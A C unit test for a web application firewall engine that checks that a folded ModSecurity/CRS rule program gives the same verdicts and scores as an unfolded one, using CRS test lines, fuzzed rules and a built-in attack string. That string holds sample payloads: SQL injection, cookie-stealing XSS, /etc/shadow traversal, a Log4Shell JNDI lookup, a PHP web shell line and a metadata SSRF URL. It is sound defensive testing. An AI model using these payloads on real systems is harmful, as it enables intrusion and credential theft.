/* A folded and an unfolded program say the same of every request: matches, verdict, scores. The requests are made of every line of the
 * cases of CRS when WEIQUE_CRS names its folder, otherwise of a few attacks against Debian's rules; as query, form, header and JSON. */
#include <ftw.h>
#include <limits.h>

#include "base/test.h"
#include "detect/waf/eval_probe.h"
#include "detect/waf/program_priv.h"

enum { LINES_MAX = 1500, STRIDE = 13, REQUEST_MAX = 64 * 1024, FILE_MAX = 4 * 1024 * 1024 };

static struct {
	wq_str list[LINES_MAX];
	size_t n, seen;
} lines;

static void add_lines(wq_str rest)
{
	while (rest.p && lines.n < LINES_MAX) {
		wq_str line = wq_str_trim(wq_str_cut(&rest, '\n'));
		if (line.n > 8 && line.n < 4000 && lines.seen++ % STRIDE == 0)
			lines.list[lines.n++] = line;
	}
}

static int visit(const char *path, const struct stat *st, int type, struct FTW *at)
{
	wq_str name = wq_str_c(path);
	char *text;
	FILE *f;

	(void)at;
	if (type != FTW_F || !wq_str_ends(name, WQ_S(".yaml")) || st->st_size > FILE_MAX)
		return 0;
	f = fopen(path, "re");
	text = malloc((size_t)st->st_size + 1); /* the lines stay in it until the end of the test */
	assert_true(f && text);
	add_lines(wq_str_of(text, fread(text, 1, (size_t)st->st_size, f)));
	fclose(f);
	return 0;
}

static void put_escaped(struct wq_buf *out, wq_str s)
{
	for (size_t i = 0; i < s.n; i++)
		wq_buf_printf(out, "%%%02x", (uint8_t)s.p[i]);
}

static void put_quoted(struct wq_buf *out, wq_str s)
{
	for (size_t i = 0; i < s.n; i++)
		wq_buf_printf(out, "\\u%04x", (uint8_t)s.p[i]);
}

/* One of four shapes. */
static void make_request(struct wq_buf *out, wq_str line, unsigned shape)
{
	static const char *const types[] = {"", "application/x-www-form-urlencoded", "", "application/json"};

	wq_buf_clear(out);
	wq_buf_printf(out, shape % 2 ? "POST /a/b.php" : "GET /a/b.php?c=1&q=");
	if (shape == 0)
		put_escaped(out, line);
	wq_buf_printf(out, " HTTP/1.1\r\nHost: www.example.cn\r\nAccept: */*\r\nUser-Agent: ");
	if (shape == 2)
		wq_buf_add(out, line);
	else
		wq_buf_printf(out, "Mozilla/5.0");
	if (shape % 2)
		wq_buf_printf(out, "\r\nContent-Type: %s", types[shape]);
	wq_buf_printf(out, "\r\n\r\n%s", shape == 1 ? "q=" : shape == 3 ? "{\"q\": \"" : "");
	if (shape == 1)
		put_escaped(out, line);
	if (shape == 3) {
		put_quoted(out, line);
		wq_buf_printf(out, "\"}");
	}
}

static void run(struct wq_waf_worker *worker, const struct wq_waf_program *program, const struct wq_waf_program *names,
	bool blocking, bool leaks, wq_str request, struct wq_buf *log)
{
	const struct wq_waf_begin begin = {.budget = {0}, .body = wq_body_limits_default, .detection_only = !blocking};
	struct wq_waf_tx *tx = wq_waf_begin(worker, program, &begin);
	static const wq_str response = WQ_S_INIT(
		"HTTP/1.1 500 X\r\nContent-Type: text/html\r\n\r\n<b>Fatal error</b>: uncaught exception");
	int64_t number;

	wq_buf_clear(log);
	assert_non_null(tx);
	enum wq_waf_step step = probe_request(tx, request, 100000);
	if (step == WQ_WAF_DONE && leaks)
		step = probe_response(tx, response);
	(void)probe_phase(tx, 5);
	probe_result(tx, log);
	wq_buf_printf(log, "step %d\n", (int)step);
	for (uint32_t i = WQ_WAF_CAPTURES; i < names->slots_n; i++)
		if (wq_waf_tx_number(tx, names->slots[i], &number))
			wq_buf_printf(log, "%.*s=%lld\n", WQ_S_ARG(names->slots[i]), (long long)number);
	assert_ok(wq_buf_err(log));
	wq_waf_end(&tx);
}

/* cmocka cuts what fail_msg() is given */
static void differ(const char *what, const char *folded, const char *whole)
{
	(void)fprintf(stderr, "%s\nfolded:\n%s\nwhole:\n%s\n", what, folded, whole);
	fail_msg("the folded program says something else");
}

static void compare(struct wq_waf_program *folded, struct wq_waf_program *whole, bool blocking)
{
	struct wq_waf_worker *worker;
	size_t refused = 0;
	WQ_BUF(request, REQUEST_MAX);
	WQ_BUF(a, PROBE_LOG_MAX);
	WQ_BUF(b, PROBE_LOG_MAX);

	assert_ok(wq_waf_worker_new(NULL, &worker));
	for (size_t i = 0; i < lines.n; i++) {
		make_request(&request, lines.list[i], (unsigned)(i % 4));
		assert_ok(wq_buf_err(&request));
		run(worker, folded, whole, blocking, i % 5 == 0, wq_buf_str(&request), &a);
		run(worker, whole, whole, blocking, i % 5 == 0, wq_buf_str(&request), &b);
		refused += wq_str_find(wq_buf_str(&a), WQ_S("\ndeny ")) >= 0;
		if (!wq_str_eq(wq_buf_str(&a), wq_buf_str(&b)))
			differ(wq_buf_cstr(&request), wq_buf_cstr(&a), wq_buf_cstr(&b));
	}
	assert_true(refused > lines.n / 10 && refused < lines.n);
	wq_waf_worker_free(&worker);
}

static struct wq_waf_program *load(const char *const *paths, size_t n, const char *level, bool fold)
{
	const struct wq_waf_setting settings[] = {{WQ_S("blocking_paranoia_level"), wq_str_c(level)},
		{WQ_S("paranoia_level"), wq_str_c(level)}, {WQ_S("crs_setup_version"), WQ_S("100")}};
	struct wq_waf_load what = {.paths = paths,
		.paths_n = n,
		.source = &wq_sec_source_files,
		.settings = settings,
		.settings_n = WQ_COUNT(settings),
		.no_fold = !fold};
	struct wq_waf_program *program;

	assert_ok(wq_waf_program_new(&what, &program));
	return program;
}

static void compare_levels(const char *const *paths, size_t n)
{
	static const char *const levels[] = {"1", "2", "4"};

	for (size_t i = 0; i < WQ_COUNT(levels); i++) {
		struct wq_waf_program *folded = load(paths, n, levels[i], true),
				      *whole = load(paths, n, levels[i], false);
		assert_true(folded->info.folded > 100);
		assert_int_equal(whole->info.folded, 0);
		compare(folded, whole, false);
		compare(folded, whole, true);
		wq_waf_program_unref(&folded);
		wq_waf_program_unref(&whole);
	}
}

static const char attacks
	[] = "' or 1=1 union select password from users --\n<script>alert(document.cookie)</script>\n"
	     "../../../../etc/passwd; cat /etc/shadow\n${jndi:ldap://x.example/a} {{7*7}}\n"
	     "<?php system($_GET['c']); ?> phpinfo()\nhttp://127.0.0.1/latest/meta-data/ sqlmap nikto\n"
	     "a plain sentence about nothing much\n\xe5\x8c\x97\xe4\xba\xac\xe5\xb8\x82\xe6\x94\xbf\xe5\xba\x9c\n";

static void same_of_debian(void **state)
{
	(void)state;
	lines.n = lines.seen = 0;
	for (int i = 0; i < 4 * STRIDE; i++) /* each line in each shape */
		add_lines(wq_str_c(attacks));
	assert_true(lines.n > 10);
	compare_levels((const char *const[]){"/usr/share/modsecurity-crs/owasp-crs.load"}, 1);
}

static void same_of_the_environment(void **state)
{
	const char *folder = getenv("WEIQUE_CRS");
	char setup[PATH_MAX], rules[PATH_MAX], cases[PATH_MAX];

	(void)state;
	if (!folder)
		return;
	(void)snprintf(setup, sizeof setup, "%s/crs-setup.conf.example", folder);
	(void)snprintf(rules, sizeof rules, "%s/rules/*.conf", folder);
	(void)snprintf(cases, sizeof cases, "%s/tests", folder);
	lines.n = lines.seen = 0;
	assert_int_equal(nftw(cases, visit, 16, FTW_PHYS), 0);
	assert_true(lines.n > 500);
	compare_levels((const char *const[]){setup, rules}, 2);
}

/* ---- rules by chance: few names, so that they meet */

enum { PROGRAMS = 4000, RULES = 14 };

static uint32_t dice(uint64_t *state, uint32_t sides)
{
	*state = *state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(*state >> 33) % sides;
}

static const char *one_of(uint64_t *state, const char *const *words, uint32_t n)
{
	return words[dice(state, n)];
}
#define ONE_OF(state, ...) \
	one_of(state, (const char *const[]){__VA_ARGS__}, WQ_COUNT(((const char *const[]){__VA_ARGS__})))

static void put_question(struct wq_buf *out, uint64_t *state)
{
	wq_buf_printf(out, "SecRule %s \"%s%s\" \"",
		ONE_OF(state, "TX:a", "TX:b", "TX:c", "&TX:a", "&TX:b", "&TX:c", "TX:a|TX:b", "TX:/^a/", "ARGS:x",
			"ARGS", "TX:1", "&TX:inbound_anomaly_score_threshold"),
		ONE_OF(state, "", "", "!"),
		ONE_OF(state, "@eq 0", "@eq 1", "@lt 2", "@ge %{tx.a}", "@gt %{tx.b}", "@streq 1", "@within 12 %{tx.c}",
			"@rx ^(1)", "@rx ^%{tx.b}$", "@unconditionalMatch"));
}

static void put_doings(struct wq_buf *out, uint64_t *state)
{
	for (uint32_t i = dice(state, 3); i > 0; i--)
		wq_buf_printf(out, ",%s",
			ONE_OF(state, "setvar:tx.a=0", "setvar:tx.a=1", "setvar:tx.b=1", "setvar:tx.b=+1",
				"setvar:tx.c=%{tx.a}", "setvar:tx.c=-%{tx.b}", "setvar:!tx.a", "setvar:!tx.c",
				"setvar:'tx.a%{ARGS.x}=2'", "capture", "ctl:ruleRemoveById=3-5",
				"ctl:ruleRemoveByTag=t", "ctl:ruleRemoveTargetByTag=t;TX:a",
				"setvar:tx.inbound_anomaly_score_threshold=3", "t:lowercase", "multiMatch"));
}

static void put_rule(struct wq_buf *out, uint64_t *state, int id)
{
	bool action = dice(state, 4) == 0;

	if (action)
		wq_buf_printf(out, "SecAction \"");
	else
		put_question(out, state);
	wq_buf_printf(out, "id:%d,phase:%s,%s,%s", id, ONE_OF(state, "1", "1", "1", "1", "2", "5"),
		ONE_OF(state, "pass", "pass", "pass", "pass", "pass", "pass", "deny", "allow:phase"),
		ONE_OF(state, "nolog", "nolog", "nolog", "log,msg:'%{tx.a} %{tx.b} %{tx.c}'", "nolog,tag:t"));
	put_doings(out, state);
	wq_buf_printf(out, "%s", ONE_OF(state, "", "", "", ",skipAfter:M1", ",skipAfter:M2", ",skip:2"));
	if (dice(state, 4) > 0) {
		wq_buf_printf(out, "\"\n");
		return;
	}
	wq_buf_printf(out, ",chain\"\n");
	put_question(out, state);
	wq_buf_printf(out, "t:none");
	put_doings(out, state);
	wq_buf_printf(out, "\"\n");
}

static void make_rules(struct wq_buf *out, uint64_t *state)
{
	wq_buf_clear(out);
	for (int id = 1; id <= RULES; id++) {
		put_rule(out, state, id);
		if (id == RULES / 2)
			wq_buf_printf(out, "SecMarker M1\n");
	}
	wq_buf_printf(out,
		"SecMarker M1\nSecMarker M2\nSecAction \"id:90,phase:2,pass,log,msg:'%%{tx.a} %%{tx.b} %%{tx.c}'\"\n"
		"SecAction \"id:91,phase:5,pass,log,msg:'%%{tx.a} %%{tx.b} %%{tx.c}'\"\n");
}

static void same_of_chance(void **state)
{
	static const char *const requests[] = {"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /?x=1 HTTP/1.1\r\nHost: h\r\n\r\n", "GET /?x=b&y=12 HTTP/1.1\r\nHost: h\r\n\r\n"};
	uint64_t chance = 20;
	uint32_t folded_n = 0;
	struct wq_waf_worker *worker;
	WQ_BUF(rules, REQUEST_MAX);
	WQ_BUF(a, PROBE_LOG_MAX);
	WQ_BUF(b, PROBE_LOG_MAX);

	(void)state;
	assert_ok(wq_waf_worker_new(NULL, &worker));
	for (int i = 0; i < PROGRAMS; i++) {
		struct wq_waf_program *folded, *whole;
		make_rules(&rules, &chance);
		assert_ok(probe_load(wq_buf_cstr(&rules), false, &folded));
		assert_ok(probe_load(wq_buf_cstr(&rules), true, &whole));
		folded_n += folded->info.folded;
		for (size_t k = 0; k < 2 * WQ_COUNT(requests); k++) {
			wq_str request = wq_str_c(requests[k / 2]);
			run(worker, folded, whole, k % 2, false, request, &a);
			run(worker, whole, whole, k % 2, false, request, &b);
			if (!wq_str_eq(wq_buf_str(&a), wq_buf_str(&b)))
				differ(wq_buf_cstr(&rules), wq_buf_cstr(&a), wq_buf_cstr(&b));
		}
		wq_waf_program_unref(&folded);
		wq_waf_program_unref(&whole);
	}
	assert_true(folded_n > PROGRAMS);
	wq_waf_worker_free(&worker);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(same_of_chance),
		cmocka_unit_test(same_of_debian),
		cmocka_unit_test(same_of_the_environment),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
